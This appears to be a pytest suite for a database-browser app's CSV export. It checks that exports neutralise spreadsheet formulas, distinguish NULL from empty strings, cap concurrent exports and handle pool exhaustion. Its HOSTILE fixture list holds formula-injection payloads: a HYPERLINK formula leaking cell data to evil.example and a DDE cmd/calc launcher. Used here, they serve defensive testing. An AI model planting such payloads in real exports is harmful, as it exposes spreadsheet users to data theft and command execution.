"""CSV exports cannot carry spreadsheet formulas, tell NULL from the empty string, and cannot starve
the connections the pages need (a per-user limit, an idle timeout, 503 rather than 500 when the pool
is exhausted). Played as a limited application role and as a superuser."""

from __future__ import annotations

import csv
import io
import time

import psycopg
import pytest

from core.models import AuditEntry

pytestmark = pytest.mark.django_db

T = "public.sec_cells"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tTAB", "\rCR", "plain", "", None, "\\N"]


@pytest.fixture(scope="module")
def cells(security_roles: dict[str, str]) -> str:
    url = security_roles["app"].replace("postgresql+psycopg://", "postgresql://", 1)
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute('CREATE TABLE sec_cells (id int PRIMARY KEY, val text, amount int, "=cmd" text)')
        for i, v in enumerate(HOSTILE, start=1):
            conn.execute("INSERT INTO sec_cells VALUES (%s, %s, %s, 'x')", (i, v, -i))
        conn.execute("CREATE TABLE sec_big (id int PRIMARY KEY, pad text)")
        conn.execute("INSERT INTO sec_big SELECT g, repeat('p', 200) FROM generate_series(1, 30000) g")
    return url


@pytest.fixture(autouse=True)
def _no_export_left_running():
    """A failed test must not leave slots taken for the next one."""
    yield
    from databrowser import export as export_module

    export_module._active.clear()


def drain(response) -> None:
    """Read a streamed answer to its end (the test client's close() would also close the test database)."""
    b"".join(response.streaming_content)


def export(client, path: str = f"/api/tables/{T}/export", **params) -> str:
    r = client.get(path, {"format": "csv", **params})
    assert r.status_code == 200, r.content[:300]
    return b"".join(r.streaming_content).decode()


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(role_target, cells, api_as, carol):
    text = export(api_as(carol))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["id", "val", "amount", "'=cmd"]  # a column name is data too
    vals = {int(r[0]): r[1] for r in rows[1:]}
    assert vals[1].startswith("'=HYPERLINK") and vals[2].startswith("'@SUM") and vals[3] == "'+1+1"
    assert vals[4] == "'-2+3" and vals[5] == "'\tTAB" and vals[6] == "'\rCR" and vals[7] == "plain"
    assert {int(r[0]): r[2] for r in rows[1:]}[4] == "-4"  # an int column's minus sign is left alone
    for r in rows[1:]:
        assert not r[1].startswith(("=", "+", "-", "@", "\t", "\r")), r


def test_null_and_the_empty_string_are_told_apart(role_target, cells, api_as, carol):
    text = export(api_as(carol))
    lines = text.split("\r\n")
    assert lines[8] == '8,"",-8,x'  # the empty string, quoted
    assert lines[9] == "9,\\N,-9,x"  # NULL, PostgreSQL's marker
    assert lines[10] == '10,"\\N",-10,x'  # the text \N itself, quoted: still not NULL
    empty_null = export(api_as(carol), null="").split("\r\n")
    assert empty_null[8] == '8,"",-8,x' and empty_null[9] == "9,,-9,x"
    assert export(api_as(carol), null="NULL").split("\r\n")[9] == "9,NULL,-9,x"
    r = api_as(carol).get(f"/api/tables/{T}/export", {"format": "csv", "null": 'a"b'})
    assert r.status_code == 400 and r.json()["error"]["hint"]


def test_the_formula_guard_can_be_switched_off_by_the_operator(role_target, cells, api_as, carol, settings):
    settings.CSV_FORMULA_GUARD = False
    rows = list(csv.reader(io.StringIO(export(api_as(carol)))))
    assert rows[1][1].startswith("=HYPERLINK")


def test_a_viewer_gets_at_most_two_exports_at_once_then_a_429(role_target, cells, api_as, carol, bob):
    from databrowser.export import running_exports

    api = api_as(carol)
    open_ = [api.get(f"/api/tables/{T}/export", {"format": "csv"}) for _ in range(2)]
    assert [r.status_code for r in open_] == [200, 200]
    third = api.get(f"/api/tables/{T}/export", {"format": "json"})
    assert third.status_code == 429
    assert third.json()["error"]["code"] == "too_many_exports" and third.json()["error"]["hint"]
    refused = AuditEntry.objects.filter(action="data.export", outcome="denied").latest("id")
    assert refused.username == "carol" and refused.target == T
    bobs = api_as(bob).get(f"/api/tables/{T}/export", {"format": "csv"})
    assert bobs.status_code == 200  # other users are not blocked by carol's exports
    drain(bobs)
    drain(open_[0])
    assert running_exports() == {str(carol.pk): 1}
    again = api.get(f"/api/tables/{T}/export", {"format": "csv"})
    assert again.status_code == 200
    for r in (open_[1], again):
        drain(r)
    assert running_exports() == {}


def test_an_export_whose_reader_stalls_is_ended_by_the_idle_timeout(role_target, cells, api_as, carol, settings,
                                                                     target_url):
    settings.EXPORT_IDLE_TIMEOUT_MS = 1000
    r = api_as(carol).get("/api/tables/public.sec_big/export", {"format": "csv"})
    stream = iter(r.streaming_content)
    next(stream)  # the transaction is open, the cursor half read

    def open_exports() -> set[int]:
        """Backends of the export pool inside a transaction (a pooled idle one does not count)."""
        observer = target_url.replace("postgresql+psycopg://", "postgresql://", 1)  # sees every role's state
        with psycopg.connect(observer, autocommit=True) as conn:
            return {row[0] for row in conn.execute(
                "SELECT pid FROM pg_stat_activity WHERE application_name = 'pgadmin-tool-export' "
                "AND datname = current_database() AND state <> 'idle'")}

    stalled = open_exports()
    assert len(stalled) == 1  # this export's session, holding its snapshot while nobody reads
    deadline = time.monotonic() + 15
    while open_exports() & stalled and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not open_exports() & stalled  # PostgreSQL ended the stalled export's session: no snapshot held for ever
    with pytest.raises(Exception):  # noqa: B017 - the stream breaks (psycopg: the server closed the connection)
        for _ in stream:
            pass


def test_pool_exhaustion_answers_503_with_a_hint_not_500(role_target, cells, api_as, client_as, carol):
    from core import target

    engine = target.get_engine()
    pool = engine.pool
    held = []
    old_timeout = pool._timeout  # type: ignore[attr-defined]
    pool._timeout = 0.3  # type: ignore[attr-defined]
    try:
        while True:
            try:
                held.append(engine.connect())
            except Exception:
                break
        assert len(held) >= 5
        r = api_as(carol).get(f"/api/tables/{T}/data")
        assert r.status_code == 503, r.content[:300]
        assert r.json()["error"]["code"] == "database_busy" and r.json()["error"]["hint"]
        page = client_as(carol).get(f"/data/{T}")
        assert page.status_code == 503 and b"busy" in page.content
    finally:
        for conn in held:
            conn.close()
        pool._timeout = old_timeout  # type: ignore[attr-defined]
    assert api_as(carol).get(f"/api/tables/{T}/data").status_code == 200


def test_exports_are_not_writes_and_refusals_leave_the_rows_alone(role_target, cells, api_as, carol):
    before = psycopg.connect(cells, autocommit=True).execute("SELECT * FROM sec_cells ORDER BY id").fetchall()
    export(api_as(carol))
    after = psycopg.connect(cells, autocommit=True).execute("SELECT * FROM sec_cells ORDER BY id").fetchall()
    assert before == after
    assert not AuditEntry.objects.filter(outcome="ok", action__startswith="data.").exists()


def test_an_export_abandoned_before_its_first_byte_frees_its_slot(role_target, cells, carol):
    """A client that disconnects while the export is being prepared: Django drops the response
    without closing it; the slot must not stay taken for ever."""
    import gc

    from databrowser import export as export_module
    from databrowser import query
    from databrowser.refs import TableRef

    info = query.get_table(TableRef.parse(T))
    response = export_module.export_response(info, {"format": "csv"}, user=carol)
    assert export_module.running_exports() == {str(carol.pk): 1}
    del response
    gc.collect()
    assert export_module.running_exports() == {}
